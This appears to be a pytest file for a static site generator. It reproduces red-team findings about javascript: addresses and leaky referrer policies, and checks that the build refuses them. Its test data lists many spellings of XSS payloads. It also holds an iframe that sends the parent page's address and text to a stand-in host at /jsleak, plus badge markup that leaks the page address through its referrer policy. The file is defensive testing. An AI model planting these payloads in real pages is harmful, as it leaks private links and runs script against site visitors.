"""Red team 5's script-address and referrer reproducers (docs/redteam/2026-11-30-fifth.md).

* K1: a ``javascript:`` address in raw HTML (an ``<iframe src>``, and any other
  attribute, in every spelling a browser reads) runs code with the mentor copy's
  origin: ``script-url``, as is a frame whose page runs code (``srcdoc``, a
  ``data:`` page). Markdown links with such an address never become links.
* K2/K5: a ``referrerpolicy`` that can send the page's path to another host, or a
  ``<meta name="referrer">``, is ``referrer-policy`` in every note, private ones
  too; every built page says ``<meta name="referrer" content="no-referrer">``.

One site holds every refused case as a note of its own, built once; one holds
what stays allowed.
"""

from __future__ import annotations

import html.parser
import http.server
import json
import os
import re
import threading
import time
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import unquote

import pytest
from browser_support import serve_directory
from hypothesis import given, settings
from hypothesis import strategies as st
from unit_helpers import write_site

from ivsite.audit import markupchecks as auditmarkup
from ivsite.markup.referrers import SAFE_POLICIES
from ivsite.markup.scripturls import script_urls
from ivsite.pipeline import Result, build
from ivsite.validate import bodyprivacy
from ivsite.validate import note as validate

SHARING = 'title = "Site"\nbase_url = "https://example.org/"\n\n[share]\nenabled = true\n'
K1_IFRAME = ("<iframe src=\"javascript:void(new Image().src='http://localhost:9999/jsleak?u='"
             "+encodeURIComponent(parent.location.href)+'&t='+encodeURIComponent("
             "parent.document.body.innerText.slice(0,300)))\" width=\"300\" height=\"50\">"
             "</iframe>")
K2_MAP = ('<iframe src="http://localhost:9999/maps-embed" width="600" height="450" '
          'style="border:0;" allowfullscreen="" loading="lazy" '
          'referrerpolicy="no-referrer-when-downgrade"></iframe>')
K2_BADGE = ('Badge: <img src="http://localhost:9999/badge.svg" referrerpolicy="unsafe-url" '
            'alt="open to work">')

SCRIPT_URLS = {
    "K1 iframe": K1_IFRAME,
    "a href": '<a href="javascript:alert(1)">x</a>',
    "unquoted": "<a href=javascript:alert(1)>x</a>",
    "mixed case": '<iframe src="JaVaScRiPt:alert(1)"></iframe>',
    "entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "hex entity, no semicolon": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "leading space and controls": '<a href=" \x01\x1f javascript:alert(1)">x</a>',
    "tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "newline entity inside": '<a href="java&NewLine;scr&Tab;ipt:alert(1)">x</a>',
    "vbscript": '<a href="VBScript:msgbox(1)">x</a>',
    "form action": '<form action="javascript:alert(1)"><button>Go</button></form>',
    "button formaction": '<form><button formaction="javascript:alert(1)">Go</button></form>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "embed src": '<embed src="javascript:alert(1)">',
    "svg xlink:href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animation": ('<svg><a><animate attributeName="href" values="#a;javascript:alert(1)"/>'
                      "<text>x</text></a></svg>"),
    "meta refresh": '<meta http-equiv="refresh" content="0; URL=\'javascript:alert(1)\'">',
    "in a srcdoc": "<iframe srcdoc=\"<a href='javascript:alert(1)'>x</a>\"></iframe>",
    "script in a srcdoc": '<iframe srcdoc="&lt;script&gt;parent.document&lt;/script&gt;"></iframe>',
    "handler in a srcdoc": "<iframe srcdoc=\"<img src=x onerror='parent.document'>\"></iframe>",
    "data: frame": '<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>',
    "data: link, base64": ('<a target="f" href="data:text/html;base64,'
                           'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    "mentor passage": '::: mentor\n<a href="javascript:alert(1)">x</a>\n:::',
}
REFERRERS = {
    "K2 map embed": (K2_MAP, "public"),
    "K2 badge": (K2_BADGE, "public"),
    "upper case": ('<img src="https://b.example/x.svg" referrerpolicy="UNSAFE-URL" alt="">',
                   "public"),
    "not a policy": ('<img src="https://b.example/x.svg" referrerpolicy="always" alt="">',
                     "public"),
    "meta name": ('<meta name="referrer" content="unsafe-url">', "public"),
    "meta http-equiv": ('<meta http-equiv="Referrer-Policy" content="unsafe-url">', "mentor"),
    "K5 private note": (K2_BADGE, "private"),
    "private passage": (f"::: private\n{K2_BADGE}\n:::", "public"),
    "in a srcdoc": ("<iframe srcdoc=\"<img src='https://b.example/x' referrerpolicy='unsafe-url'>"
                    '"></iframe>', "mentor"),
}

MARKDOWN_LINKS = [
    "[a](javascript:alert(1))", "[b](JaVaScRiPt:alert(1))", "[c](&#106;avascript:alert(1))",
    "[d](&#x6A;avascript&colon;alert(1))", "[f](<javascript:alert(1)>)",
    "<javascript:alert(1)>", "![g](javascript:alert(1))", "[h][r]\n\n[r]: javascript:alert(1)",
    "[i](vbscript:msgbox(1))", "[k](javascript&#58;alert(1))", "![m](&#x6A;avascript:alert(1))",
]
"""Markdown links markdown-it refuses: published as text."""
MARKDOWN_RELATIVE = {
    "tab": "[e](<java\tscript:alert(1)>)", "newline entity": "[j](java&NewLine;script:alert(1))",
    "control": "[l](<\x01javascript:alert(1)>)", "percent": "[n](%6Aavascript:alert(1))",
}
"""Markdown links markdown-it lets through with the tab or control escaped: to a
browser and to ivsite an address on this site, so a broken link (an error)."""


def page_note(title: str, body: str, vis: str = "public") -> str:
    return f"---\ntitle: {json.dumps(title)}\nvisibility: {vis}\n---\nBefore.\n\n{body}\n"


def note_of(cases: dict[str, object], prefix: str) -> dict[str, str]:
    """Each case's note (numbered: a case's name may say private, and a path that
    says it makes the note private)."""
    return {case: f"content/pages/{prefix}{i}.md" for i, case in enumerate(cases)}


S_NOTE, R_NOTE, M_NOTE = (note_of(SCRIPT_URLS, "s"), note_of(REFERRERS, "r"),
                          note_of(MARKDOWN_RELATIVE, "m"))


def errors(result: Result) -> list[tuple[str, str, int]]:
    return [(d.code, d.path, d.line) for d in result.diagnostics if d.severity == "error"]


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path]:
    root = tmp_path_factory.mktemp("refused")
    files = {S_NOTE[c]: page_note(c, b) for c, b in SCRIPT_URLS.items()}
    files |= {R_NOTE[c]: page_note(c, b, v) for c, (b, v) in REFERRERS.items()}
    files |= {M_NOTE[c]: page_note(c, b) for c, b in MARKDOWN_RELATIVE.items()}
    files["content/pages/index.md"] = page_note("Home", "Welcome.")
    write_site(root / "s", files, toml=SHARING)
    return build(root / "s", out=root / "out"), root / "out"


@pytest.mark.parametrize("case", list(SCRIPT_URLS))
def test_a_script_address_is_refused(refused: tuple[Result, Path], case: str) -> None:
    result, out = refused
    assert result.status == 1 and not out.exists()
    line = 7 + SCRIPT_URLS[case].startswith(":::")
    assert ("script-url", S_NOTE[case], line) in errors(result), \
        errors(result)


@pytest.mark.parametrize("case", list(REFERRERS))
def test_a_referrer_policy_that_sends_the_address_is_refused(refused: tuple[Result, Path],
                                                             case: str) -> None:
    result, out = refused
    assert result.status == 1 and not out.exists()
    line = 7 + REFERRERS[case][0].startswith(":::")
    assert ("referrer-policy", R_NOTE[case], line) in errors(result), \
        errors(result)


@pytest.mark.parametrize("case", list(MARKDOWN_RELATIVE))
def test_a_markdown_link_with_an_escaped_scheme_is_a_broken_link(refused: tuple[Result, Path],
                                                                 case: str) -> None:
    result, _ = refused
    assert ("broken-link", M_NOTE[case], 7) in errors(result)


def test_each_diagnostic_says_what_to_write_instead(refused: tuple[Result, Path]) -> None:
    result, _ = refused
    [k1] = [d for d in result.diagnostics if d.path == S_NOTE["K1 iframe"]]
    assert "javascript: address" in k1.message and "https://" in k1.hint
    [meta] = [d for d in result.diagnostics if d.path == R_NOTE["meta name"]]
    assert "delete it" in meta.hint and "no referrer" in meta.hint


# What a browser reads as the scheme of an attribute's value (the URL standard):
# entities decoded, C0 controls and spaces around it cut, tabs and line breaks gone.


@st.composite
def spelt(draw: st.DrawFn) -> str:
    scheme = draw(st.sampled_from(["javascript", "vbscript"]))
    out = draw(st.sampled_from(["", " ", "&#32;", "\x01", "\n", "&#x09;"]))
    for ch in scheme + ":":
        form = draw(st.sampled_from(["plain", "upper", "dec", "hex", "dec-open"]))
        out += (ch if form == "plain" else ch.upper() if form == "upper"
                else f"&#{ord(ch)};" if form == "dec" else f"&#X{ord(ch):X};"
                if form == "hex" else f"&#{ord(ch)}")  # no ';': a browser reads it too
        out += draw(st.sampled_from(["", "", "\t", "&Tab;", "&NewLine;", "\r"]))
    return out + "alert(1)"


@given(spelt(), st.sampled_from([("a", "href"), ("iframe", "src"), ("form", "action"),
                                 ("button", "formaction"), ("object", "data"),
                                 ("embed", "src"), ("svg:a", "xlink:href"), ("set", "to")]),
       st.sampled_from(['"', "'"]))
@settings(max_examples=200, deadline=None)
def test_every_spelling_of_a_script_address_is_found(value: str, where: tuple[str, str],
                                                     quote: str) -> None:
    tag, attr = where
    written = f"<{tag} {attr}={quote}{value}{quote}>"
    # The reference reading: Python's HTML parser, then the URL standard's rules.
    reader = _Attributes()
    reader.feed(written)
    assert any(_browser_scheme(v) in ("javascript", "vbscript") for v in reader.values)
    assert list(script_urls(written)), written


@pytest.mark.parametrize("written", [
    '<iframe src="https://www.google.com/maps/embed?pb=1" referrerpolicy="no-referrer">',
    '<a href="https://example.org/javascript:guide" title="javascript: the basics">JS</a>',
    '<img src="data:image/svg+xml,%3Csvg onload=%22x%22%3E%3C/svg%3E" alt="icon">',
    '<iframe srcdoc="&lt;p&gt;Hello&lt;/p&gt;"></iframe>',
    '<a href="data:text/plain,hello">notes</a>',
])
def test_ordinary_html_has_no_script_address(written: str) -> None:
    assert list(script_urls(written)) == []


class _Attributes(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.values += [v for _, v in attrs if v is not None]


def _browser_scheme(value: str) -> str:
    address = value.strip("".join(map(chr, range(0x21))))
    address = re.sub("[\t\n\r]", "", address)
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", address)
    return m.group(1).lower() if m else ""


# ------------------------------------------------------------- what stays allowed

ALLOWED = (  # on the site's own host: another host's is a remote-resource (red team 6 L7)
    '<iframe src="https://example.org/maps/embed?pb=1" width="600" height="450" '
    'style="border:0;" loading="lazy" referrerpolicy="no-referrer"></iframe>\n\n'
    'Badge: <img src="https://example.org/b.svg" referrerpolicy="strict-origin-when-'
    'cross-origin" alt="open to work"> and <a href="https://example.org/js" '
    'referrerpolicy="origin">a guide</a>.'
)


@pytest.fixture(scope="module")
def allowed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path]:
    root = tmp_path_factory.mktemp("allowed")
    links = "\n\n".join(MARKDOWN_LINKS)
    write_site(root / "s", {
        "content/pages/embeds.md": page_note("Embeds", ALLOWED),
        "content/pages/links.md": page_note("Links", links),
        "content/reflections/r.md": "---\ntitle: R\ndate: 2026-01-03\nvisibility: mentor\n"
                                    "---\nFor my mentor only.\n",
        "content/pages/index.md": page_note("Home", "Welcome.")}, toml=SHARING)
    return build(root / "s", out=root / "out"), root / "out"


def test_ordinary_embeds_and_safe_policies_still_build(allowed: tuple[Result, Path]) -> None:
    result, out = allowed
    assert result.status == 0, errors(result)
    [shared] = (out / "share").glob("*/embeds/index.html")
    assert 'referrerpolicy="no-referrer"' in shared.read_text("utf-8")
    assert {"no-referrer", "origin", "strict-origin-when-cross-origin"} <= SAFE_POLICIES


def test_no_markdown_link_publishes_a_script_address(allowed: tuple[Result, Path]) -> None:
    result, out = allowed
    assert result.status == 0, errors(result)
    pages = list(out.rglob("*.html"))
    assert any(p.parts[-2] == "links" for p in pages)
    for path in pages:
        reader = _Attributes()
        reader.feed(path.read_text("utf-8"))
        live = [v for v in reader.values if _browser_scheme(v) in ("javascript", "vbscript")]
        assert live == [], (path, live)


def test_every_page_sends_no_referrer(allowed: tuple[Result, Path]) -> None:
    """The public pages, the mentor copy and the share folder's index: the policy
    comes before anything the page loads."""
    result, out = allowed
    assert result.status == 0, errors(result)
    pages = list(out.rglob("*.html"))
    assert any("share" in p.parts for p in pages) and (out / "share/index.html") in pages
    for path in pages:
        text = path.read_text("utf-8")
        if "<head>" not in text:
            continue  # a fragment (Pagefind's), not a page
        head = text[:text.index("</head>")]
        policy = head.find('<meta name="referrer" content="no-referrer">')
        assert policy != -1, path
        assert all(policy < i for i in (head.find("<script"), head.find("<link")) if i != -1)


# ------------------------------------------------ with the check off, it is published

def reproducer(root: Path) -> Path:
    return write_site(root / "s", {
        "content/pages/x.md": page_note("Widget", f"My calendar widget:\n\n{K1_IFRAME}"),
        "content/pages/y.md": page_note("Where I meet people", f"{K2_MAP}\n\n{K2_BADGE}"),
        "content/pages/index.md": page_note("Home", "Welcome.")}, toml=SHARING)


def _audit_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """The audit's own reading of script addresses and referrer policies (the second
    line, ivsite.audit.markupchecks) off as well."""
    monkeypatch.setattr(auditmarkup, "unsafe_markup", lambda page, own: [])


def test_without_the_script_check_the_mentor_copy_runs_the_code(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bodyprivacy, "script_urls", lambda content: iter(()))
    monkeypatch.setattr(validate, "referrer_policies", lambda *args: False)
    monkeypatch.setattr(validate, "remote_resources", lambda *args: False)  # L7's, apart
    _audit_off(monkeypatch)
    result = build(reproducer(tmp_path), out=tmp_path / "out")
    assert result.status == 0, errors(result)
    [shared] = (tmp_path / "out/share").glob("*/x/index.html")
    assert 'src="javascript:void(new Image()' in shared.read_text("utf-8")


def test_without_the_referrer_check_the_mentor_copy_sends_its_address(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(validate, "referrer_policies", lambda *args: False)
    monkeypatch.setattr(validate, "remote_resources", lambda *args: False)  # L7's, apart
    _audit_off(monkeypatch)
    result = build(reproducer(tmp_path), out=tmp_path / "out")
    assert ("script-url", "content/pages/x.md", 9) in errors(result)
    (tmp_path / "s/content/pages/x.md").unlink()
    result = build(tmp_path / "s", out=tmp_path / "out")
    assert result.status == 0, errors(result)
    [shared] = (tmp_path / "out/share").glob("*/y/index.html")
    text = shared.read_text("utf-8")
    assert 'referrerpolicy="unsafe-url"' in text
    assert 'referrerpolicy="no-referrer-when-downgrade"' in text


# ------------------------------------------- the audit alone, with the filter's checks off

def _filter_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bodyprivacy, "script_urls", lambda content: iter(()))
    monkeypatch.setattr(validate, "referrer_policies", lambda *args: False)
    monkeypatch.setattr(validate, "remote_resources", lambda *args: False)  # L7's, apart


def test_with_the_filters_checks_off_the_audit_refuses_the_reproducers(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _filter_off(monkeypatch)
    result = build(reproducer(tmp_path), out=tmp_path / "out")
    assert result.status == 1
    found = {(h.output, h.secret.text.split(" ")[0]) for h in result.hits}
    assert ("x/index.html", "the") in found, found  # "the 'src' of <iframe> is a javascript: …"
    said = " ".join(h.text() for h in result.hits)
    assert "javascript: address" in said and 'referrerpolicy="unsafe-url"' in said
    assert 'referrerpolicy="no-referrer-when-downgrade"' in said
    assert any(h.output.startswith("share/") for h in result.hits)  # the mentor's copy too
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("markup", [
    '<a href="&#106;ava&#x09;script&colon;alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<meta name="referrer" content="unsafe-url">',
    '<img src="https://example.com/p.png" referrerpolicy="UNSAFE-URL" alt="">',
])
def test_the_audit_reads_each_spelling(markup: str) -> None:
    page = f'<!doctype html><html><head>{THEME_META}</head><body>{markup}</body></html>'
    assert auditmarkup.unsafe_markup(page, "ana.example.org")


THEME_META = '<meta name="referrer" content="no-referrer">'


@pytest.mark.parametrize("markup", [
    THEME_META, '<img src="x.png" referrerpolicy="strict-origin-when-cross-origin" alt="">',
    '<meta name="referrer" content="same-origin">', '<p>a javascript: primer</p>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<a href="https://example.org/?q=javascript">x</a>',
])
def test_what_the_audit_lets_through(markup: str) -> None:
    assert auditmarkup.unsafe_markup(f"<html><head></head><body>{markup}</body></html>", "") == []


# ------------------------------------------------------------------ in a browser

class _Tracker(http.server.BaseHTTPRequestHandler):
    """Another host: records each request's path and Referer."""

    seen: ClassVar[list[tuple[str, str | None]]] = []

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers.get("Referer")))
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.mark.browser
@pytest.mark.skipif(not os.access("/usr/bin/chromium", os.X_OK),
                    reason="needs Debian's /usr/bin/chromium")
def test_in_a_browser_only_the_checks_keep_the_link_from_another_host(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, page: Any) -> None:
    """Both checks off: the mentor copy's javascript: frame sends the share link
    away, and the badge's ``unsafe-url`` sends it as the Referer; an image with no
    policy of its own sends no Referer at all (the theme's ``no-referrer``)."""
    tracker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Tracker)
    _Tracker.seen = []
    threading.Thread(target=tracker.serve_forever, daemon=True).start()
    other = f"http://localhost:{tracker.server_address[1]}"
    try:
        frame = K1_IFRAME.replace("http://localhost:9999", other)
        badge = K2_BADGE.replace("http://localhost:9999", other)
        control = f'<img src="{other}/control.gif" alt="control">'
        root = write_site(tmp_path / "s", {
            "content/pages/x.md": page_note("Widget", f"{frame}\n\n{badge}\n\n{control}"),
            "content/pages/index.md": page_note("Home", "Welcome.")}, toml=SHARING)
        _filter_off(monkeypatch)
        _audit_off(monkeypatch)
        result = build(root, out=tmp_path / "out")
        assert result.status == 0, errors(result)
        [token] = [p.name for p in (tmp_path / "out/share").iterdir() if p.is_dir()]
        with serve_directory(tmp_path / "out") as base:
            page.goto(f"{base}/share/{token}/x/")
            deadline = time.monotonic() + 15
            while len({p.split("?")[0] for p, _ in _Tracker.seen}) < 3 \
                    and time.monotonic() < deadline:
                page.wait_for_timeout(100)
    finally:
        tracker.shutdown()
        tracker.server_close()
    seen = {path.split("?")[0]: (path, referer) for path, referer in _Tracker.seen}
    assert token in unquote(seen["/jsleak"][0]), seen
    assert token in (seen["/badge.svg"][1] or ""), seen
    assert seen["/control.gif"][1] is None, seen
